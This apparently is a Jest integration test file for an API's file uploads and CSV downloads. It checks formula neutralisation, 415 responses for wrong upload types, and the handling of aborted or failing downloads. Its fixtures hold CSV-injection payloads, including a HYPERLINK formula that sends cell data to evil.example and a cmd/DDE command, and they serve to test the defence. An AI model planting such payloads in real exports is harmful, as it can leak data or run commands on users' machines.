/**
 * Files in and out through HTTP: formulas in rejected rows come out of every CSV download
 * neutralised as the exports do it; uploads with a Content-Type that fits no accepted file type
 * answer 415 and create nothing; a client leaving a download half-way is no error.
 */
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { Readable } from 'node:stream';
import { gzipSync } from 'node:zlib';
import express from 'express';
import pinoHttp from 'pino-http';
import { neutraliseCell } from '../connectors/export-format';
import { createLogger } from '../src/core/log';
import { sendCsvDownload } from '../src/http/download';
import { problemMiddleware } from '../src/http/problem';
import { expectProblem, startTestApi, TestApi } from './helpers/harness';
import { eventually } from './helpers/poll';
import { ProspectSetup, setUpProspects } from './helpers/prospects';

/** Everything the service logs, debug and up. */
const logs: { level: number; msg: string; [k: string]: unknown }[] = [];
const log = createLogger('debug', { write: (line: string) => void logs.push(JSON.parse(line)) });

let api: TestApi;
let p: ProspectSetup;
let marketer: string;
let channelId: string;
beforeAll(async () => {
  api = await startTestApi({ log });
  p = await setUpProspects(api, 'Files');
  marketer = await api.keyFor('marketer');
  channelId = (await api.as(marketer).post('/v1/talk-channels', { name: 'Files channel', searchId: '@files' }).expect(201)).body.id;
}, 60_000);
afterAll(async () => api.close());

/** RFC 4180 cells (quoted fields may hold commas, quotes, CR and LF). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(field), (field = '');
    else if (c === '\n') rows.push([...row, field]), (row = []), (field = '');
    else field += c;
  }
  if (field !== '' || row.length > 0) rows.push([...row, field]);
  return rows;
}

const csvCell = (v: string) => `"${v.replace(/"/g, '""')}"`;
const text = (r: import('supertest').Test) => r.buffer(true).parse((res, cb) => {
  let data = '';
  res.setEncoding('utf8');
  res.on('data', (c: string) => (data += c));
  res.on('end', () => cb(null, data));
});

/** Cells a spreadsheet would run (OWASP CSV injection), and what the export encoder writes for each. */
const FORMULAS: [string, string][] = [
  ['=HYPERLINK("http://evil.example/?x="&A1,"click")', `'=HYPERLINK("http://evil.example/?x="&A1,"click")`],
  ['@SUM(1)', "'@SUM(1)"],
  ['+cmd|/C calc', "'+cmd|/C calc"],
  ['-2+3', "'-2+3"],
  ['\t=1+1', "'\t=1+1"],
  ['\r=1+1', "'\r=1+1"],
];

describe('formulas in rejected rows', () => {
  it('come out of the batch errors CSV neutralised like exports; plain numbers and the JSON download keep them as sent', async () => {
    const values = [...FORMULAS.map(([raw]) => raw), '-12.5', 'thirty'];
    const csv = 'partnerID,consumer.age\n' + values.map((v, i) => `F${i},${csvCell(v)}`).join('\n') + '\n';
    const batch = await api.as(p.token).post(`/v1/datasets/${p.datasetId}/data?format=csv&errorThreshold=100`).set('Content-Type', 'text/csv').send(csv).expect(201);
    expect(batch.body.counts).toEqual({ input: values.length, output: 0, failed: values.length });

    const download = await text(api.as(p.token).get(`/v1/batches/${batch.body.id}/errors?format=csv`)).expect(200);
    expect(download.headers['content-type']).toMatch(/^text\/csv/);
    const [header, ...rows] = parseCsv(download.body as string);
    expect(header).toEqual(['file', 'row', 'field', 'rule', 'message', 'rawValue']);
    const rawValues = rows.map((r) => r[5]);
    expect(rawValues).toEqual([...FORMULAS.map(([, written]) => written), '-12.5', 'thirty']);
    expect(rawValues).toEqual(values.map(neutraliseCell));

    const json = JSON.parse((await api.as(p.token).get(`/v1/batches/${batch.body.id}/errors?format=json`).expect(200)).text);
    expect(json.map((e: { rawValue: string }) => e.rawValue)).toEqual(values);
  });

  it('come out of the customer file and friend group failure CSVs neutralised like exports', async () => {
    const values = FORMULAS.map(([raw]) => raw).filter((v) => !/^[\t\r]/.test(v)); // the readers trim leading blanks
    const file = (header: string) => [header, ...values.map(csvCell)].join('\n') + '\n';
    const customer = await api.as(marketer).post('/v1/targets/customer-files/uploads').set('Content-Type', 'text/csv').send(file('adid')).expect(201);
    const friends = await api
      .as(marketer)
      .post(`/v1/targets/friend-groups/uploads?channelId=${channelId}&type=APP_USER_ID`)
      .set('Content-Type', 'text/csv')
      .send(file('app_user_id'))
      .expect(201);
    for (const up of [customer.body, friends.body]) {
      expect(up.counts.failed).toBe(values.length);
      const download = await text(api.as(marketer).get(up.failuresUrl)).expect(200);
      const [header, ...rows] = parseCsv(download.body as string);
      expect(header).toEqual(['row', 'value', 'rule', 'message']);
      expect(rows.map((r) => r[1])).toEqual(values.map(neutraliseCell));
      expect(rows.map((r) => r[1])).toEqual(FORMULAS.slice(0, values.length).map(([, written]) => written));
    }
  });
});

describe('upload Content-Type', () => {
  const batchCount = async () => (await api.as(p.token).get(`/v1/datasets/${p.datasetId}/batches`).expect(200)).body.items.length;
  const recordCount = async () => (await api.as(p.token).get(`/v1/datasets/${p.datasetId}`).expect(200)).body.counts.records;
  const uploadCount = async () => Number((await api.db('target_uploads').count({ n: '*' }))[0].n);

  function expect415(res: import('supertest').Response, received: string) {
    const problem = expectProblem(res, 415);
    expect(problem.detail).toContain(received);
    expect(problem.errors).toEqual([expect.objectContaining({ pointer: '', rule: 'media-type' })]);
    expect(problem.contentType).toBe(received);
    return problem;
  }

  /** A request with no Content-Type header at all, as `curl -T file` sends it. */
  function unlabelled(method: string, path: string, token: string, body: string): Promise<{ status: number; body: any }> {
    const u = new URL(path, api.url);
    return new Promise((resolve, reject) => {
      const req = http.request({ method, host: u.hostname, port: u.port, path: u.pathname + u.search, headers: { authorization: `Bearer ${token}`, 'content-length': Buffer.byteLength(body) } }, (res) => {
        let data = '';
        res.setEncoding('utf8');
        res.on('data', (c) => (data += c));
        res.on('end', () => resolve({ status: res.statusCode!, body: JSON.parse(data) }));
      });
      req.on('error', reject);
      req.end(body);
    });
  }

  it('POST /v1/datasets/{id}/data: 415 for an image or a multipart form, nothing created; CSV, JSON lines and gzip types still load', async () => {
    const [batches, records] = [await batchCount(), await recordCount()];
    const path = `/v1/datasets/${p.datasetId}/data?format=csv&fileName=x.csv`;
    const png = expect415(await api.as(p.token).post(path).set('Content-Type', 'image/png').send('partnerID\nPNG1\n'), 'image/png');
    expect(png.accepted).toEqual(expect.arrayContaining(['text/csv', 'application/x-ndjson', 'application/gzip', 'application/octet-stream']));
    expect415(await api.as(p.token).post(path).set('Content-Type', 'multipart/form-data; boundary=x').send('--x\r\n\r\npartnerID\nMP1\n--x--\r\n'), 'multipart/form-data');
    expect([await batchCount(), await recordCount()]).toEqual([batches, records]);

    const loads: [string, string | Buffer, string][] = [
      ['text/csv; charset=utf-8', 'partnerID\nOK1\n', 'format=csv'],
      ['application/vnd.ms-excel', 'partnerID\nOK2\n', 'format=csv'],
      ['application/x-www-form-urlencoded', 'partnerID\nOK3\n', 'format=csv'], // curl --data-binary
      ['application/x-gzip', gzipSync('partnerID\nOK4\n'), 'format=csv&compression=gzip'],
      ['application/x-ndjson', '{"partnerID":"OK5"}\n', 'format=jsonl'],
    ];
    for (const [type, body, query] of loads) {
      const res = await api.as(p.token).post(`/v1/datasets/${p.datasetId}/data?${query}`).set('Content-Type', type).send(body);
      expect([type, res.status, res.body.counts]).toEqual([type, 201, { input: 1, output: 1, failed: 0 }]);
    }
    const none = await unlabelled('POST', `/v1/datasets/${p.datasetId}/data?format=csv`, p.token, 'partnerID\nOK6\n');
    expect([none.status, none.body.counts]).toEqual([201, { input: 1, output: 1, failed: 0 }]);
    expect(await recordCount()).toBe(records + 6);
  });

  it('PUT /v1/batches/{id}/files/{name}: 415 for an image and the batch keeps no file; text/csv and no type still upload', async () => {
    const created = await api.as(p.token).post(`/v1/datasets/${p.datasetId}/batches`, { format: 'csv' }).expect(201);
    const id = created.body.id;
    expect415(await api.as(p.token).put(`/v1/batches/${id}/files/a.png`).set('Content-Type', 'image/png').send('partnerID\nPNG2\n'), 'image/png');
    expect((await api.as(p.token).get(`/v1/batches/${id}`).expect(200)).body.files).toEqual([]);
    await api.as(p.token).put(`/v1/batches/${id}/files/a.csv`).set('Content-Type', 'text/csv').send('partnerID\nPUT1\n').expect(200);
    expect((await unlabelled('PUT', `/v1/batches/${id}/files/b.csv`, p.token, 'partnerID\nPUT2\n')).status).toBe(200);
    const done = await api.as(p.token).post(`/v1/batches/${id}/complete`, {}).expect(200);
    expect(done.body.counts).toEqual({ input: 2, output: 2, failed: 0 });
  });

  it.each([
    ['customer file', '/v1/targets/customer-files/uploads', 'adid\n00000000-0000-4000-8000-000000000001\n'],
    ['friend group', '/v1/targets/friend-groups/uploads?type=APP_USER_ID&channelId=', 'app_user_id\n1234567890\n'],
  ])('%s upload: 415 for an image with no upload kept; CSV types and no type still upload', async (_name, base, body) => {
    const path = base.endsWith('=') ? base + channelId : base;
    const before = await uploadCount();
    expect415(await api.as(marketer).post(path).set('Content-Type', 'image/png').send(body), 'image/png');
    expect(await uploadCount()).toBe(before);
    for (const type of ['text/csv', 'application/vnd.ms-excel', 'application/octet-stream']) {
      const res = await api.as(marketer).post(path).set('Content-Type', type).send(body);
      expect([type, res.status, res.body.counts?.succeeded]).toEqual([type, 201, 1]);
    }
    const none = await unlabelled('POST', path, marketer, body);
    expect([none.status, none.body.counts.succeeded]).toEqual([201, 1]);
  });

  it('POST /v1/reactions: 415 for a type that is neither JSON nor JSON lines', async () => {
    const problem = expect415(await api.as(api.adminToken).post('/v1/reactions').set('Content-Type', 'image/png').send('{}'), 'image/png');
    expect(problem.accepted).toEqual(expect.arrayContaining(['application/json', 'application/x-ndjson']));
  });

  it('documents the accepted types and the 415 in OpenAPI', async () => {
    const doc = (await api.as(p.token).get('/v1/openapi.json').expect(200)).body;
    const op = doc.paths['/v1/datasets/{id}/data'].post;
    expect(Object.keys(op.requestBody.content)).toEqual(expect.arrayContaining(['text/csv', 'application/x-ndjson', 'application/gzip', 'application/octet-stream']));
    expect(op.responses['415']).toBeDefined();
  });
});

describe('a client leaving a download half-way', () => {
  /** Opens the download, reads its first bytes, then drops the connection. Resolves with the bytes read. */
  function readAndDrop(path: string): Promise<number> {
    const u = new URL(path, api.url);
    return new Promise((resolve, reject) => {
      const req = http.get({ host: u.hostname, port: u.port, path: u.pathname + u.search, headers: { authorization: `Bearer ${p.token}` } }, (res) => {
        res.on('error', () => undefined); // the cut-off transfer
        res.once('data', (chunk: Buffer) => {
          res.pause();
          req.destroy();
          resolve(chunk.length);
        });
      });
      req.on('error', (err) => ((err as NodeJS.ErrnoException).code === 'ECONNRESET' ? undefined : reject(err)));
    });
  }

  it('is logged below error level, and the service keeps answering (the query is released)', async () => {
    // ~11 MB of row errors: far more than the socket buffers, so the server is still writing when the client leaves.
    const rows = Array.from({ length: 10_000 }, (_, i) => `A${i},${'x'.repeat(1000)}`);
    const batch = await api
      .as(p.token)
      .post(`/v1/datasets/${p.datasetId}/data?format=csv&errorThreshold=100`)
      .set('Content-Type', 'text/csv')
      .send(`partnerID,consumer.age\n${rows.join('\n')}\n`)
      .expect(201);
    expect(batch.body.counts.failed).toBe(10_000);
    const path = `/v1/batches/${batch.body.id}/errors?format=csv`;
    const aborted = () => logs.filter((l) => l.msg === 'request aborted' && (l.req as { url?: string })?.url === `/v1/batches/${batch.body.id}/errors`).length;

    // More aborts than the database pool has connections: a leaked query would starve the service.
    const drops = 12;
    const from = logs.length;
    for (let i = 0; i < drops; i++) {
      await readAndDrop(path);
      await eventually(async () => aborted() >= i + 1, `the server to see abort ${i + 1}`);
    }
    // Each one a debug line, not an error.
    await eventually(async () => logs.slice(from).filter((l) => l.msg === 'download abandoned by the client' && l.level === 20).length === drops, 'a debug line per abort');
    expect(logs.slice(from).filter((l) => l.level >= 50)).toEqual([]);

    expect((await api.as(p.token).get(`/v1/batches/${batch.body.id}`).expect(200)).body.counts.failed).toBe(10_000);
    const full = await text(api.as(p.token).get(path)).expect(200);
    expect(parseCsv(full.body as string)).toHaveLength(10_001);
  }, 120_000);
});

describe('a download whose rows fail', () => {
  // The service's downloads read PostgreSQL; a failing query is simulated by a row stream that errors.
  let server: http.Server;
  let url: string;
  const failAfter = (rows: number) =>
    Readable.from(
      (function* () {
        for (let i = 0; i < rows; i++) yield { row: i, value: 'v'.repeat(200), rule: 'r', message: 'm' };
        throw new Error('connection to the database lost');
      })(),
    );
  beforeAll(async () => {
    const app = express();
    app.use(pinoHttp({ logger: log }));
    app.get('/rows/:n', async (req, res, next) => {
      try {
        await sendCsvDownload(res, 'f.csv', ['row', 'value', 'rule', 'message'], failAfter(Number(req.params.n)));
      } catch (err) {
        next(err);
      }
    });
    app.use(problemMiddleware(log));
    server = app.listen(0, '127.0.0.1');
    await new Promise((r) => server.once('listening', r));
    url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  afterAll(() => new Promise((r) => server.close(r)));

  function fetchAll(path: string): Promise<{ status: number; type?: string; disposition?: string; bytes: number; complete: boolean; body: string }> {
    return new Promise((resolve, reject) => {
      http
        .get(url + path, (res) => {
          let body = '';
          let bytes = 0;
          const done = () => resolve({ status: res.statusCode!, type: res.headers['content-type'], disposition: res.headers['content-disposition'], bytes, complete: res.complete, body });
          res.on('data', (c: Buffer) => ((bytes += c.length), (body += c.toString())));
          res.on('end', done);
          res.on('error', done);
        })
        .on('error', reject);
    });
  }

  it('answers problem+json when they fail before the first bytes', async () => {
    const res = await fetchAll('/rows/0');
    expect([res.status, res.type, res.disposition]).toEqual([500, 'application/problem+json; charset=utf-8', undefined]);
    expect(JSON.parse(res.body)).toMatchObject({ status: 500, title: 'Internal error' });
  });

  it('cuts the transfer off (and logs an error) when they fail after it started', async () => {
    const from = logs.length;
    const res = await fetchAll('/rows/2000'); // ~450 KB before the error: several chunks already sent
    expect(res.status).toBe(200);
    expect(res.bytes).toBeGreaterThan(0);
    expect(res.complete).toBe(false);
    expect(logs.slice(from).filter((l) => l.level >= 50).map((l) => l.msg)).toEqual(['download failed after its first bytes; the response was cut off']);
  });
});
